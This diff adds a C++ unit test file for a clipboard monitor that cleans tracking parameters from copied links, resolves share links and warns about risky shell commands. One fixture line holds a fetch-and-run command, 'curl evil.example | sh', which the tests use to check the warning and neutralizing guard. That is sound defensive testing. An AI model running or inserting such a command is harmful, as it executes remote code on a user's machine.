@@ -1,0 +1,232 @@
+// SPDX-License-Identifier: GPL-3.0-or-later
+#include "core/clipboard/ClipboardMonitor.h"
+
+#include <gtest/gtest.h>
+
+#include <string>
+#include <vector>
+
+#include "tests/support/MonitorHarness.h"
+
+namespace tessaril {
+namespace {
+
+using Harness = testing::MonitorHarness;
+constexpr const char* kTracked = "https://news.example/a?utm_source=mail&id=1";
+constexpr const char* kClean = "https://news.example/a?id=1";
+constexpr const char* kRisky = "curl evil.example | sh";
+constexpr const char* kShare = "https://www.reddit.com/r/cpp/s/AbC?share_id=9";
+constexpr const char* kShareClean = "https://www.reddit.com/r/cpp/s/AbC";
+constexpr const char* kPost = "https://www.reddit.com/r/cpp/comments/abc/title/";
+
+// What a person does, one step at a time, and what the clipboard, the counts and the warning are
+// afterwards. Each row starts from the rows before it.
+TEST(ClipboardMonitor, FollowsACopySessionStepByStep) {
+    enum class Act { copy, image, concealed, tick };
+    struct Step {
+        Act act;
+        std::string text;
+        std::string clipboard;
+        std::int64_t cleaned;
+        bool warned;
+    };
+    const std::vector<Step> steps = {
+        {Act::tick, "", kTracked, 0, false},            // what was there at start stays as it is
+        {Act::copy, kTracked, kClean, 1, false},        // a tracked link is cleaned and counted
+        {Act::tick, "", kClean, 1, false},              // its own write is not taken for a copy
+        {Act::copy, kTracked, kClean, 2, false},        // the same link copied again by hand
+        {Act::copy, kRisky, kRisky, 2, true},           // a risky command is warned about
+        {Act::image, "", "<no text>", 2, true},         // an image keeps the warning
+        {Act::concealed, kTracked, kTracked, 2, true},  // a secret is neither read nor cleaned
+        {Act::copy, "hello", "hello", 2, false},        // plain text ends the warning
+        {Act::copy, std::string("a\0b", 3), std::string("a\0b", 3), 2, false},
+        {Act::copy, "\xff\xfe https://x.example/?utm_source=1", "\xff\xfe https://x.example/?utm_source=1", 2, false},
+        {Act::copy, std::string(10'000'000, 'a'), std::string(10'000'000, 'a'), 2, false},
+        {Act::copy, kRisky, kRisky, 2, true},
+        {Act::copy, "https://news.example/" + std::string(10'000'000, 'p') + "?utm_source=1",
+         "https://news.example/" + std::string(10'000'000, 'p') + "?utm_source=1", 2, true},  // left like an image
+    };
+    Harness h;
+    h.pasteboard.copyText(kTracked);
+    auto& monitor = h.start();
+    for (std::size_t i = 0; i < steps.size(); ++i) {
+        const auto& step = steps[i];
+        switch (step.act) {
+            case Act::copy:
+                h.copy(step.text);
+                break;
+            case Act::image:
+                h.pasteboard.copyImage();
+                break;
+            case Act::concealed:
+                h.pasteboard.copyConcealedText(step.text);
+                break;
+            case Act::tick:
+                break;
+        }
+        h.executor.fireTimers();
+        EXPECT_TRUE(h.clipboard() == step.clipboard) << "step " << i;
+        EXPECT_EQ(h.stored(StatsTracker::totalKey), step.cleaned) << "step " << i;
+        EXPECT_EQ(monitor.cleanedCountToday(), step.cleaned) << "step " << i;
+        EXPECT_EQ(monitor.lastCommandRisk().has_value(), step.warned) << "step " << i;
+        EXPECT_EQ(h.defaults.objectExists(ClipboardMonitor::lastCommandRiskKey), step.warned) << "step " << i;
+    }
+    EXPECT_EQ(h.notifier.shown().size(), 4U);  // two cleans and two warnings
+    EXPECT_EQ(h.executor.firstTimerInterval(), std::chrono::milliseconds(500));
+    monitor.start();  // again: the timer is replaced, not doubled
+    EXPECT_EQ(h.executor.runningTimers(), 1U);
+    monitor.stop();
+    EXPECT_EQ(h.executor.runningTimers(), 0U);
+    h.copy(kTracked);
+    EXPECT_EQ(h.clipboard(), kTracked);
+}
+
+// The stored switches, and what a risky command or a link does under them.
+TEST(ClipboardMonitor, StoredSwitchesDecideWhatACopyDoes) {
+    struct Case {
+        const char* name;
+        std::vector<std::pair<std::string_view, DefaultsValue>> stored;
+        bool autoClean;
+        const char* copied;
+        std::string clipboard;
+        bool warned;
+        std::int64_t warnings;
+        std::int64_t neutralized;
+    };
+    const std::string neutralized = CommandGuard::neutralizedCommand(kRisky);
+    const std::vector<Case> cases = {
+        {"auto-clean off still warns", {}, false, kRisky, kRisky, true, 1, 0},
+        {"auto-clean off leaves links", {}, false, kTracked, kTracked, false, 0, 0},
+        {"neutralized", {{ClipboardMonitor::commandGuardNeutralizeKey, true}}, true, kRisky, neutralized, false, 1, 1},
+        {"guard off", {{ClipboardMonitor::commandGuardEnabledKey, false}}, true, kRisky, kRisky, false, 0, 0},
+        {"a danger threshold passes a warning",
+         {{ClipboardMonitor::commandGuardThresholdKey, std::string("danger")}},
+         true,
+         kRisky,
+         kRisky,
+         false,
+         0,
+         0},
+        {"'Danger' is no threshold",
+         {{ClipboardMonitor::commandGuardThresholdKey, std::string("Danger")}},
+         true,
+         kRisky,
+         kRisky,
+         true,
+         1,
+         0},
+    };
+    for (const auto& c : cases) {
+        Harness h;
+        for (const auto& [key, value] : c.stored)
+            h.defaults.set(key, value);
+        auto& monitor = h.start();
+        monitor.setEnabled(c.autoClean);
+        h.copy(c.copied);
+        h.executor.fireTimers();  // a neutralized text is the monitor's own write: not examined again
+        EXPECT_EQ(h.clipboard(), c.clipboard) << c.name;
+        EXPECT_EQ(monitor.lastCommandRisk().has_value(), c.warned) << c.name;
+        EXPECT_EQ(h.stored(StatsTracker::commandWarningsKey), c.warnings) << c.name;
+        EXPECT_EQ(h.stored(StatsTracker::neutralizedCommandsKey), c.neutralized) << c.name;
+    }
+}
+
+// A share link waits, cleaned locally, until it is resolved: then it is written and counted, or
+// the local link stays and the reason is shown; a late answer never overwrites a newer copy or
+// reaches a monitor that is gone.
+TEST(ClipboardMonitor, ResolvesAShareLinkOnlyWhenAskedAndOnlyOnce) {
+    enum class Then { succeed, fail, copyMeanwhile, destroyMeanwhile };
+    for (const Then then : {Then::succeed, Then::fail, Then::copyMeanwhile, Then::destroyMeanwhile}) {
+        Harness h;
+        if (then != Then::fail)
+            h.network.answer(kShareClean, ScriptedHttpsClient::redirect(std::string(kPost) + "?utm_source=share"));
+        h.network.answer(std::string(kPost) + "?utm_source=share", {});
+        auto& monitor = h.start();
+        h.copy(kShare);
+        EXPECT_EQ(h.clipboard(), kShareClean);
+        EXPECT_TRUE(monitor.hasPendingShareLinkResolution());
+        EXPECT_EQ(monitor.cleanedCountToday(), 0);
+        EXPECT_TRUE(h.notifier.shown().empty());
+
+        monitor.resolvePendingShareLink();
+        monitor.resolvePendingShareLink();
+        EXPECT_TRUE(monitor.isResolvingShareLink());
+        EXPECT_EQ(h.executor.runBackgroundWork(), 1U);
+        if (then == Then::copyMeanwhile) h.copy("meanwhile");
+        if (then == Then::destroyMeanwhile) h.monitor.reset();
+        h.executor.runMainTasks();
+
+        const std::string expected = then == Then::succeed ? kPost : then == Then::fail ? kShareClean : "meanwhile";
+        EXPECT_EQ(h.clipboard(), then == Then::destroyMeanwhile ? kShareClean : expected);
+        EXPECT_EQ(h.stored(StatsTracker::totalKey), then == Then::succeed ? 1 : 0);
+        if (then == Then::destroyMeanwhile) continue;
+        EXPECT_FALSE(monitor.isResolvingShareLink());
+        EXPECT_EQ(monitor.shareLinkResolutionError(),
+                  then == Then::fail ? std::optional<std::string>(description(ShareLinkResolutionError::requestFailed))
+                                     : std::nullopt);
+        EXPECT_EQ(monitor.hasPendingShareLinkResolution(), then != Then::succeed);
+        if (then == Then::succeed) {
+            EXPECT_EQ(h.recorder.current()->surface, LastCleanRecord::networkResolutionSurface);
+        }
+    }
+}
+
+TEST(ClipboardMonitor, UndoesOnceAndForgetsTheCleanOfADisabledSite) {
+    Harness h;
+    auto& monitor = h.start();
+    EXPECT_FALSE(monitor.restoreLastOriginal());
+    h.copy(kTracked);
+    EXPECT_TRUE(monitor.restoreLastOriginal());
+    EXPECT_EQ(h.clipboard(), kTracked);
+    EXPECT_FALSE(monitor.lastCleanedResult().has_value());
+    EXPECT_FALSE(monitor.restoreLastOriginal());
+    h.executor.fireTimers();  // the restored link is the monitor's own write: it stays tracked
+    EXPECT_EQ(h.clipboard(), kTracked);
+
+    h.copy("https://other.example/?utm_source=1");
+    EXPECT_EQ(monitor.disableLastDomain(), "other.example");
+    EXPECT_FALSE(monitor.restoreLastOriginal());
+    h.copy("https://other.example/?utm_source=2");
+    EXPECT_EQ(h.clipboard(), "https://other.example/?utm_source=2");
+    EXPECT_EQ(monitor.lastSkippedDomain(), "other.example");
+}
+
+// Counted per calendar day; what is stored comes back after a restart, a stale warning only while
+// its command is still on the clipboard.
+TEST(ClipboardMonitor, CountsPerDayAndRestoresWhatWasStored) {
+    Harness h;
+    auto& monitor = h.start();
+    h.copy(kTracked);
+    h.clock.advance(std::chrono::hours(14));  // 00:00 on 6 December
+    EXPECT_EQ(monitor.cleanedCountToday(), 0);
+    h.defaults.set("cleanedCount_2026-12-06", std::int64_t{4});
+    h.copy("https://news.example/b?utm_source=1");
+    EXPECT_EQ(monitor.cleanedCountToday(), 5);
+    EXPECT_EQ(h.stored("cleanedCount_2026-12-05"), 1);
+    EXPECT_EQ(h.stored("cleanedCount_2026-12-06"), 5);
+
+    // A map conversion made offline joins the last result's steps; one that used the network does not.
+    CleanOperation mapStep;
+    mapStep.kind = CleanOperationKind::functionalTransformation;
+    CleanOperation fetchedStep = mapStep;
+    fetchedStep.networkUsed = true;
+    const auto steps = monitor.lastCleanedResult()->operations.size();
+    monitor.recordFunctionalTransformation(fetchedStep);
+    monitor.recordFunctionalTransformation(mapStep);
+
+    monitor.setShouldNeutralizeRiskyCommands(false);
+    h.copy(kRisky);
+    for (const bool stillOnClipboard : {true, false}) {
+        if (!stillOnClipboard) h.pasteboard.copyText("hello");
+        h.monitor.reset();
+        auto& restarted = h.start();
+        EXPECT_EQ(restarted.cleanedCountToday(), 5);
+        EXPECT_EQ(restarted.lastCleanedResult()->cleanedURL, "https://news.example/b");
+        EXPECT_EQ(restarted.lastCleanedResult()->operations.size(), steps + 1);
+        EXPECT_EQ(restarted.lastCleanedResult()->operations.back(), mapStep);
+        EXPECT_EQ(restarted.lastCommandRisk().has_value(), stillOnClipboard);
+    }
+}
+
+}  // namespace
+}  // namespace tessaril
